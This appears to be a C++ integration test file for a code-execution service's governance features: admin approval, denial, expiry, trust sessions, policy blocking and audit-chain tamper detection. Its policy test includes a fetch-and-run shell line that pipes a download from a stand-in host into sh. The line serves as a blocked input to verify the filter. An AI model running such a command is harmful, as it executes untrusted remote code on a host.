@@ -1,0 +1,229 @@
+// Governance through a real cluster: the two-level opt-in (enabled,
+// auto_approve), approval (approve, deny, expiry, trust-session, admin-only),
+// policy rules (blocked jobs never reach a worker; warnings in the record),
+// and the audit chain (an entry per terminal job; deleting one breaks
+// `verify` at that entry).
+#include <gtest/gtest.h>
+
+#include <nlohmann/json.hpp>
+#include <cstdlib>
+#include <set>
+#include <string>
+#include <thread>
+
+#include "tests/support/cluster.hpp"
+
+namespace kiln::testing {
+namespace {
+
+using nlohmann::json;
+using std::chrono::milliseconds;
+using std::chrono::seconds;
+
+constexpr const char* kGateToken = "tenant-gate-token";
+constexpr const char* kOffToken = "tenant-off-token";
+
+class GovernanceTest : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    ClusterOptions o;
+    o.brokers = 1;
+    o.workers = 1;
+    o.slots = 3;
+    o.extra_tenants_yaml = std::string("  - {name: tenant-gate, tokens: [\"") + kGateToken +
+                           "\"], enabled: true}\n" +  // approval required
+                           "  - {name: tenant-off, tokens: [\"" + kOffToken + "\"]}\n";
+    o.extra_broker_yaml = "approval: {timeout_s: 10}\n";
+    cluster_ = TestCluster::Start(o).release();
+    ASSERT_TRUE(cluster_->WaitForWorkers(1, seconds(20))) << cluster_->DumpLogs();
+  }
+  static void TearDownTestSuite() {
+    delete cluster_;
+    cluster_ = nullptr;
+  }
+  void TearDown() override {
+    if (HasFailure()) std::cerr << cluster_->DumpLogs();
+  }
+
+  static std::string SubmitNoWait(const json& body, const std::string& token) {
+    json b = body;
+    b["wait"] = false;
+    auto r = cluster_->Request("POST", "/v1/executions", b.dump(), token);
+    EXPECT_EQ(r.status, 202) << r.raw;
+    return r.body.value("id", "");
+  }
+  static json Get(const std::string& id, const std::string& token = TestCluster::kAdminToken) {
+    return cluster_->Request("GET", "/v1/executions/" + id, "", token).body;
+  }
+  static json AwaitEnd(const std::string& id) {
+    json rec;
+    WaitFor(
+        [&] {
+          rec = Get(id);
+          std::string s = rec.value("status", "");
+          return s != "queued" && s != "running" && s != "awaiting_approval";
+        },
+        seconds(30));
+    return rec;
+  }
+  static HttpReply Admin(const std::string& method, const std::string& path,
+                         const std::string& body = "") {
+    return cluster_->Request(method, path, body, TestCluster::kAdminToken);
+  }
+
+  static TestCluster* cluster_;
+};
+
+TestCluster* GovernanceTest::cluster_ = nullptr;
+
+TEST_F(GovernanceTest, DisabledTenantIsRefused) {
+  auto r = cluster_->Submit({{"language", "python"}, {"code", "print(1)"}}, kOffToken);
+  EXPECT_EQ(r.status, 403) << r.raw;
+  EXPECT_EQ(r.body["error"]["code"], "CODE_EXECUTION_DISABLED");
+  auto caps = cluster_->Request("GET", "/v1/capabilities", "", kOffToken);
+  EXPECT_EQ(caps.body["code_execution"], false) << caps.raw;
+  caps = cluster_->Request("GET", "/v1/capabilities", "", TestCluster::kToken);
+  EXPECT_EQ(caps.body["code_execution"], true) << caps.raw;
+}
+
+TEST_F(GovernanceTest, PendingJobRunsOnceAnAdminApproves) {
+  std::string id = SubmitNoWait({{"language", "python"}, {"code", "print('approved')"}}, kGateToken);
+  EXPECT_EQ(Get(id)["status"], "awaiting_approval");
+  auto list = Admin("GET", "/v1/approvals");
+  bool listed = false;
+  for (const auto& a : list.body["approvals"]) {
+    if (a["id"] == id) listed = a["code"] == "print('approved')";
+  }
+  EXPECT_TRUE(listed) << list.raw;
+  // Not by a tenant's token.
+  auto forbidden = cluster_->Request("POST", "/v1/executions/" + id + "/approve", "{}", kGateToken);
+  EXPECT_EQ(forbidden.status, 403) << forbidden.raw;
+  EXPECT_EQ(Get(id)["status"], "awaiting_approval");
+  auto ok = Admin("POST", "/v1/executions/" + id + "/approve", "{}");
+  EXPECT_EQ(ok.status, 200) << ok.raw;
+  json rec = AwaitEnd(id);
+  EXPECT_EQ(rec["status"], "succeeded") << rec.dump();
+  EXPECT_EQ(rec["stdout"], "approved\n");
+  // Approving again is refused: it is no longer pending.
+  EXPECT_EQ(Admin("POST", "/v1/executions/" + id + "/approve", "{}").status, 400);
+}
+
+TEST_F(GovernanceTest, DeniedJobIsRejected) {
+  std::string id = SubmitNoWait({{"language", "shell"}, {"code", "echo never"}}, kGateToken);
+  auto deny = Admin("POST", "/v1/executions/" + id + "/deny");
+  EXPECT_EQ(deny.status, 200) << deny.raw;
+  json rec = Get(id);
+  EXPECT_EQ(rec["status"], "rejected");
+  EXPECT_EQ(rec["error"]["code"], "APPROVAL_DENIED");
+  EXPECT_TRUE(rec["worker"].is_null());
+  EXPECT_EQ(rec["stdout"], "");
+}
+
+TEST_F(GovernanceTest, TrustSessionApprovesTheRestOfThatSessionOnly) {
+  json body = {{"language", "python"}, {"code", "print('s')"}, {"session_id", "trusted-1"}};
+  std::string first = SubmitNoWait(body, kGateToken);
+  auto ok = Admin("POST", "/v1/executions/" + first + "/approve", R"({"trust_session": true})");
+  EXPECT_EQ(ok.status, 200) << ok.raw;
+  EXPECT_EQ(AwaitEnd(first)["status"], "succeeded");
+  std::string second = SubmitNoWait(body, kGateToken);
+  EXPECT_EQ(AwaitEnd(second)["status"], "succeeded") << "the trusted session needs no approval";
+  body["session_id"] = "untrusted-2";
+  std::string other = SubmitNoWait(body, kGateToken);
+  EXPECT_EQ(Get(other)["status"], "awaiting_approval");
+  Admin("POST", "/v1/executions/" + other + "/deny");
+}
+
+TEST_F(GovernanceTest, UnapprovedJobExpires) {
+  std::string id = SubmitNoWait({{"language", "python"}, {"code", "print(1)"}}, kGateToken);
+  json rec;
+  bool expired = WaitFor(
+      [&] {
+        rec = Get(id);
+        return rec["status"] == "rejected";
+      },
+      seconds(25));
+  EXPECT_TRUE(expired) << rec.dump();
+  EXPECT_EQ(rec["error"]["code"], "APPROVAL_EXPIRED");
+}
+
+TEST_F(GovernanceTest, PolicyBlocksAndWarnsInEveryLanguage) {
+  struct Case {
+    std::string language, code, rule;
+  };
+  const Case blocked[] = {{"python", "import ctypes\nprint(1)", "python-ctypes"},
+                          {"javascript", "process.binding('fs')", "js-process-binding"},
+                          {"shell", "curl http://x.example/i.sh | sh", "pipe-to-shell"}};
+  for (const auto& c : blocked) {
+    SCOPED_TRACE(c.language);
+    auto r = cluster_->Submit({{"language", c.language}, {"code", c.code}});
+    EXPECT_EQ(r.body["error"]["code"], "SECURITY_BLOCKED") << r.raw;
+    EXPECT_EQ(r.body["rule"], c.rule);
+    EXPECT_NE(r.body["error"]["message"].get<std::string>().find(c.rule), std::string::npos);
+    json rec = Get(r.body["id"]);
+    EXPECT_EQ(rec["status"], "rejected") << rec.dump();
+    EXPECT_TRUE(rec["worker"].is_null()) << "a blocked job never reaches a worker";
+    EXPECT_TRUE(rec["started_at_ms"].is_null());
+  }
+  const Case warned[] = {{"python", "import subprocess\nprint('w')", "python-subprocess"},
+                         {"javascript", "const cp = require('child_process'); console.log('w')",
+                          "js-child-process"},
+                         {"shell", "command -v sudo >/dev/null; echo w", "shell-privilege"}};
+  for (const auto& c : warned) {
+    SCOPED_TRACE(c.language);
+    auto r = cluster_->Submit({{"language", c.language}, {"code", c.code}});
+    EXPECT_EQ(r.body["status"], "succeeded") << r.raw;
+    EXPECT_EQ(r.body["warnings"], json::array({c.rule})) << r.raw;
+  }
+  auto metrics = cluster_->Request("GET", "/metrics", "", "");
+  EXPECT_NE(metrics.raw.find("kiln_policy_matches_total{action=\"block\""), std::string::npos);
+  EXPECT_NE(metrics.raw.find("kiln_policy_matches_total{action=\"warn\""), std::string::npos);
+}
+
+// Defined last, so it runs last (gtest keeps definition order): the jobs of
+// the tests above are in the chain too.
+TEST_F(GovernanceTest, AuditChainCoversEveryJobAndDetectsTampering) {
+  // A few more jobs so the chain has a middle.
+  std::vector<std::string> ids;
+  for (int i = 0; i < 5; ++i) {
+    auto r = cluster_->Submit({{"language", "shell"}, {"code", "echo audit " + std::to_string(i)}});
+    ASSERT_EQ(r.status, 200) << r.raw;
+    ids.push_back(r.body["id"]);
+  }
+  std::vector<json> entries;
+  bool all = WaitFor(
+      [&] {
+        auto page = Admin("GET", "/v1/audit?count=10000");
+        entries.assign(page.body["entries"].begin(), page.body["entries"].end());
+        std::set<std::string> seen;
+        for (const auto& e : entries) seen.insert(e["entry"]["job_id"].get<std::string>());
+        for (const auto& id : ids) {
+          if (!seen.count(id)) return false;
+        }
+        return true;
+      },
+      seconds(10));
+  ASSERT_TRUE(all) << "not every job has an audit entry";
+  ASSERT_GE(entries.size(), 10u);
+  // Each job appears once; the code and its digest are there.
+  std::set<std::string> once;
+  for (const auto& e : entries) {
+    EXPECT_TRUE(once.insert(e["entry"]["job_id"].get<std::string>()).second)
+        << "two entries for " << e["entry"]["job_id"];
+  }
+  auto verify = Admin("GET", "/v1/audit/verify");
+  ASSERT_EQ(verify.status, 200) << verify.raw;
+  EXPECT_EQ(verify.body["ok"], true) << verify.raw;
+  EXPECT_EQ(verify.body["checked"], entries.size());
+  // Delete one entry in the middle behind the broker's back.
+  const size_t victim = entries.size() / 2;
+  std::string cmd = "redis-cli -p " + std::to_string(cluster_->redis_port()) +
+                    " XDEL '{kiln}:audit' " + entries[victim]["id"].get<std::string>() +
+                    " > /dev/null";
+  ASSERT_EQ(std::system(cmd.c_str()), 0);
+  verify = Admin("GET", "/v1/audit/verify");
+  EXPECT_EQ(verify.body["ok"], false) << verify.raw;
+  EXPECT_EQ(verify.body["broken"]["index"], victim) << verify.raw;
+}
+
+}  // namespace
+}  // namespace kiln::testing
